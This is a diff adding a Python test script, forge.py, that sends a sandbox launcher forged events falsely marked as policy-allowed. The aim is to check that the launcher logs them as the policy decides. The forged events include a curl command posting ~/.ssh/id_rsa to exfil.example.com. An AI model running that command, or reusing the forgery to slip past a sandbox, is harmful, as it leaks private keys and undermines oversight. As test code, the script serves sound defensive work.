@@ -1,0 +1,37 @@
+#!/usr/bin/python3
+"""forge.py - from inside the sandbox, sends the launcher shim events that claim allows the
+policy would not give (launcher/approve.c must log them as the policy decides).
+
+Usage: forge.py HOME   (the path of the home directory whose .ssh/id_rsa the forged read names)
+The message layout is preload/channel.h's: a 24-byte header, then the body by source.
+"""
+import os
+import socket
+import struct
+import sys
+
+EVENT, EXEC, OPEN, CONNECT = 1, 1, 2, 3
+ACTION_EXEC, ACTION_CONNECT, FILE_READ = 0x40, 0x80, 0x01
+ALLOW, DEFAULT_RULE = 0, -1
+
+
+def string(b):
+    return struct.pack("<I", len(b)) + b + b"\x00"
+
+
+def message(mid, source, action, body):
+    head = struct.pack("<HBBIIBBBBii", (0xA1 << 8) | 1, EVENT, 0, 24 + len(body), mid,
+                       source, action, ALLOW, 0, DEFAULT_RULE, 0)
+    return head + body
+
+
+home = sys.argv[1].encode()
+s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+s.connect(os.path.join(os.environ["AIRLOCK_DIR"], "channel"))
+s.send(message(1, CONNECT, ACTION_CONNECT, string(b"exfil.example.com") + struct.pack("<H", 443)))
+args = [b"curl", b"-d", b"@" + home + b"/.ssh/id_rsa", b"https://exfil.example.com"]
+s.send(message(2, EXEC, ACTION_EXEC, string(b"/usr/bin/curl") + struct.pack("<II", len(args), len(args)) +
+               b"".join(string(a) for a in args)))
+s.send(message(3, OPEN, FILE_READ, string(home + b"/.ssh/id_rsa")))
+s.close()
+print("forged")
